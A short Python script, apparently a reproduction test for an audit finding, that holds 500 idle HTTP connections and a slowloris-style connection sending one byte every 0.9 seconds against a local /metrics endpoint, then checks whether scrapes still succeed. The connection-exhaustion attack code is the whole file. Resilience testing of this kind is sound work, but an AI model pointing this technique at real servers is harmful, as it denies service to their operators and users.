"""Finding 7: 500 idle HTTP connections and one that sends a byte every 0.9 s hold /metrics."""

import socket
import threading
import time

from abuse import Attack, arguments, log, open_idle_connections, raise_descriptor_limit
from metrics_http import scrape

options = arguments(lambda parser: parser.add_argument("--idle", type=int, default=500))
raise_descriptor_limit(options.idle + 512)
attack = Attack(options)
held, connected = open_idle_connections([("127.0.0.1", options.metrics_port)], options.idle)
stop = threading.Event()


def dribble():
    try:
        with socket.create_connection(("127.0.0.1", options.metrics_port), timeout=2) as slow:
            for byte in b"GET /metrics HTTP/1.0\r\nX-Slow: " + b"a" * 1000:
                if stop.wait(0.9):
                    return
                slow.sendall(bytes([byte]))
    except OSError:
        return


slowloris = threading.Thread(target=dribble, daemon=True)
slowloris.start()
time.sleep(1.0)
results = []
for _ in range(5):
    ok, seconds, status = scrape(options.metrics_port, timeout=3.0)
    results.append({"ok": ok, "ms": round(seconds * 1000, 1), "status": status})
log(f"{connected} of {len(held)} idle connections established, and a slow one; scrapes: {results}")
stop.set()
for connection in held:
    connection.close()
attack.finish(idle_connections=connected, scrapes=results)
